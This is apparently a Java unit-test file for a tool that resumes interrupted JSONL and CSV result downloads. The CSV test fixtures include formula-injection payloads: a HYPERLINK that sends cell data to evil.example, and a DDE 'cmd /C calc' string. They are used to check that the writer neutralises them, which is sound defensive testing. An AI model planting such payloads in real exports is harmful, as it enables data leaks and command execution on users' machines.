package io.cardgen.cli.results;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Resuming an output file an interrupted run left behind. */
class ResultsFileTest {

  @TempDir Path dir;

  @Test
  void aNewFileStartsAfterSeqZero() throws IOException {
    try (ResultsFile file = ResultsFile.open(dir.resolve("cards.jsonl"), false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isZero();
    }
  }

  @Test
  void dropsAHalfWrittenJsonlLineAndResumesAfterTheLastCompleteOne() throws IOException {
    Path path = dir.resolve("cards.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      file.accept(line(1, "a"));
      file.accept(line(2, "b"));
    }
    Files.writeString(path, "{\"seq\":3,\"custom_id\":\"c\",\"sta", StandardOpenOption.APPEND);

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isEqualTo(2);
      file.accept(line(3, "c"));
    }

    assertThat(Files.readAllLines(path)).containsExactly(line(1, "a"), line(2, "b"), line(3, "c"));
  }

  @ParameterizedTest
  @CsvSource({"cards.jsonl", "cards.csv"})
  void aFileOfAnotherBatchIsNotContinuedButCanBeReplaced(String name) throws IOException {
    Path path = dir.resolve(name);
    try (ResultsFile file = ResultsFile.open(path, false, "bat_A", null)) {
      file.accept(line(1, "a"));
      file.accept(line(2, "b"));
    }
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_B", null))
        .isInstanceOf(BatchMismatch.class)
        .hasMessageContaining("holds the results of bat_A, not bat_B");
    assertThat(Files.readAllBytes(path)).isEqualTo(before);

    try (ResultsFile file = ResultsFile.open(path, true, "bat_B", null)) {
      assertThat(file.resumedAfter()).isZero();
      file.accept(line(1, "x"));
    }
    try (ResultsFile file = ResultsFile.open(path, false, "bat_B", null)) {
      assertThat(file.resumedAfter()).isEqualTo(1);
    }
  }

  @Test
  void aFileThatDoesNotSayWhichBatchItHoldsIsNotContinued() throws IOException {
    Path path = dir.resolve("cards.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_A", null)) {
      file.accept(line(1, "a"));
    }
    Files.delete(dir.resolve("cards.jsonl.batch"));

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_A", null))
        .isInstanceOf(BatchMismatch.class)
        .hasMessageContaining("does not say which batch it holds")
        .hasMessageContaining("pass --overwrite");
  }

  @Test
  void skipsLinesTheFileAlreadyHas() throws IOException {
    Path path = dir.resolve("cards.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.accept(line(1, "a"))).isEqualTo(1);
      assertThat(file.accept(line(2, "b"))).isEqualTo(2);
      assertThat(file.accept(line(2, "b"))).isEqualTo(2);
      assertThat(file.accept(line(1, "a"))).isEqualTo(2);
      assertThat(file.written()).isEqualTo(2);
    }
    assertThat(Files.readAllLines(path)).hasSize(2);
  }

  @Test
  void resumesACsvWhoseCellsSpanLinesAndDropsAHalfWrittenRecord() throws IOException {
    Path path = dir.resolve("cards.csv");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      file.accept(card(1, "Первая строка\r\nвторая, с запятой"));
      file.accept(card(2, "Ещё\nодна"));
    }
    Files.writeString(
        path, "3,x-3,succeeded,,,u3,,standard,,\"Обрыв\nна полу", StandardOpenOption.APPEND);

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isEqualTo(2);
      file.accept(card(3, "Третья"));
    }

    String csv = Files.readString(path, StandardCharsets.UTF_8);
    assertThat(csv).startsWith("\uFEFFseq,custom_id,status,error_code,error_message,uid,");
    assertThat(csv.split("\r\n")).hasSize(4);
    assertThat(csv).contains("\"Первая строка\nвторая, с запятой\"").doesNotContain("Обрыв");
  }

  @Test
  void aCsvWithOnlyItsHeaderResumesAfterSeqZero() throws IOException {
    Path path = dir.resolve("cards.csv");
    ResultsFile.open(path, false, "bat_1", null).close();

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isZero();
    }
    assertThat(Files.readString(path).split("\r\n")).hasSize(1);
  }

  @Test
  void refusesToAppendToAFileItDidNotWriteUnlessToldToOverwrite() throws IOException {
    Path path = dir.resolve("notes.jsonl");
    Files.writeString(path, "my own notes\n");

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", null))
        .isInstanceOf(NotAResultsFile.class);
    assertThat(Files.readString(path)).isEqualTo("my own notes\n");

    try (ResultsFile file = ResultsFile.open(path, true, "bat_1", null)) {
      assertThat(file.resumedAfter()).isZero();
    }
    assertThat(Files.readString(path)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "products.csv, 'sku,short_description\\nk-1,Кружка\\nk-2,Ваза\\n'",
    "notes.jsonl, my own notes",
    "notes.txt, '{\"seq\": 1'"
  })
  void leavesAFileWithoutAnyRecordEndUntouched(String name, String content) throws IOException {
    Path path = dir.resolve(name);
    Files.writeString(path, content.replace("\\n", "\n"));
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", null))
        .isInstanceOf(NotAResultsFile.class);

    assertThat(Files.readAllBytes(path)).isEqualTo(before);
  }

  @Test
  void leavesTheInputSpreadsheetUntouchedWhenItsLastRowHasNoLineBreak() throws IOException {
    Path path = dir.resolve("products.csv");
    Files.writeString(path, "sku,short_description\r\nk-1,Кружка\r\nk-2,Ваза");
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", null))
        .isInstanceOf(NotAResultsFile.class);

    assertThat(Files.readAllBytes(path)).isEqualTo(before);
  }

  @Test
  void refusesACsvWithoutTheResultsHeaderEvenWhenItsRowsStartWithNumbers() throws IOException {
    Path path = dir.resolve("products.csv");
    Files.writeString(path, "sku,short_description\r\n1001,Кружка\r\n1002,Ваза\r\n");
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", null))
        .isInstanceOf(NotAResultsFile.class);

    assertThat(Files.readAllBytes(path)).isEqualTo(before);
  }

  @Test
  void refusesToContinueAFilteredDownloadWithoutItsFilter() throws IOException {
    Path path = dir.resolve("failed.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", "failed")) {
      file.accept(line(4, "d"));
      file.accept(line(9, "i"));
    }
    Files.writeString(path, "{\"seq\":12,\"cus", StandardOpenOption.APPEND);
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", null))
        .isInstanceOf(FilterMismatch.class)
        .hasMessageContaining("holds only failed results up to seq 9")
        .hasMessageContaining("run the command with --status failed");
    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", "succeeded"))
        .isInstanceOf(FilterMismatch.class);
    assertThat(Files.readAllBytes(path)).isEqualTo(before);

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", "failed")) {
      assertThat(file.resumedAfter()).isEqualTo(9);
    }
  }

  @Test
  void refusesToContinueADownloadOfEveryItemWithAFilter() throws IOException {
    Path path = dir.resolve("cards.csv");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      file.accept(card(1, "Первая"));
      file.accept(line(2, "b"));
    }
    byte[] before = Files.readAllBytes(path);

    assertThatThrownBy(() -> ResultsFile.open(path, false, "bat_1", "failed"))
        .isInstanceOf(FilterMismatch.class)
        .hasMessageContaining("holds every result up to seq 2")
        .hasMessageContaining("run the command without --status");
    assertThat(Files.readAllBytes(path)).isEqualTo(before);
  }

  @Test
  void aFilteredDownloadThatSkippedNothingYetContinuesEitherWay() throws IOException {
    Path path = dir.resolve("failed.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", "failed")) {
      file.accept(line(1, "a"));
      file.accept(line(2, "b"));
    }

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isEqualTo(2);
    }
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", "failed")) {
      assertThat(file.resumedAfter()).isEqualTo(2);
    }
  }

  @Test
  void aCsvCellThatWouldStartAFormulaStartsWithAQuoteInstead() throws IOException {
    String line = injected();
    Path path = dir.resolve("cards.csv");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      file.accept(line);
    }

    CSVRecord row = csv(path).get(0);
    assertThat(row.get("seq")).isEqualTo("1");
    assertThat(row.get("custom_id")).isEqualTo("'-1");
    assertThat(row.get("status")).isEqualTo("succeeded");
    assertThat(row.get("description"))
        .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")");
    assertThat(row.get("features")).isEqualTo("'+7 (495) 000-00-00\nПрочный");
    assertThat(row.get("audience")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
    assertThat(row.get("headers")).isEqualTo("'\tЗаголовок");
    assertThat(row.get("slogans")).isEqualTo("'\n=1+1");
    assertThat(row.get("style_name")).isEqualTo("Стандартный; =1+1");
    assertThat(row.get("description_length")).isEqualTo("42");
    String written = Files.readString(path, StandardCharsets.UTF_8);
    assertThat(written)
        .startsWith("\uFEFFseq,custom_id,status,error_code,error_message,uid,")
        .contains("\r\n\"1\",\"'-1\",\"succeeded\",")
        .contains("\"Стандартный; =1+1\"");

    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      assertThat(file.resumedAfter()).isEqualTo(1);
    }
  }

  @Test
  void theJsonlKeepsTheTextsAsTheServiceSentThem() throws IOException {
    String line = injected();
    Path path = dir.resolve("cards.jsonl");
    try (ResultsFile file = ResultsFile.open(path, false, "bat_1", null)) {
      file.accept(line);
    }

    assertThat(Files.readString(path, StandardCharsets.UTF_8)).isEqualTo(line + "\n");
  }

  /** A result whose texts a supplier's description steered into formulas. */
  private static String injected() {
    JsonMapper json = JsonMapper.builder().build();
    ObjectNode result = json.createObjectNode().put("seq", 1).put("custom_id", "-1");
    result.put("status", "succeeded");
    ObjectNode card = result.putObject("card");
    card.put("uid", "u1");
    card.put("style_name", "Стандартный; =1+1");
    card.put("description", "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")");
    card.put("description_length", 42);
    card.putArray("features").add("+7 (495) 000-00-00").add("Прочный");
    card.put("audience", "@SUM(1+1)*cmd|' /C calc'!A0");
    card.putArray("headers").add("\tЗаголовок");
    card.putArray("slogans").add("\r\n=1+1");
    result.putNull("error");
    return json.writeValueAsString(result);
  }

  private static List<CSVRecord> csv(Path path) throws IOException {
    String text = Files.readString(path, StandardCharsets.UTF_8).substring(1);
    return CSVFormat.RFC4180
        .builder()
        .setHeader()
        .setSkipHeaderRecord(true)
        .get()
        .parse(new java.io.StringReader(text))
        .getRecords();
  }

  private static String line(long seq, String customId) {
    return "{\"seq\":"
        + seq
        + ",\"custom_id\":\""
        + customId
        + "\",\"status\":\"failed\",\"card\":null,"
        + "\"error\":{\"code\":\"image_invalid\",\"message\":\"Фото\"}}";
  }

  private static String card(long seq, String description) {
    return "{\"seq\":"
        + seq
        + ",\"custom_id\":\"x-"
        + seq
        + "\",\"status\":\"succeeded\",\"card\":{\"uid\":\"u"
        + seq
        + "\",\"description\":"
        + quoted(description)
        + ",\"features\":[\"a\",\"b\"]},\"error\":null}";
  }

  private static String quoted(String text) {
    return "\"" + text.replace("\r", "\\r").replace("\n", "\\n") + "\"";
  }
}
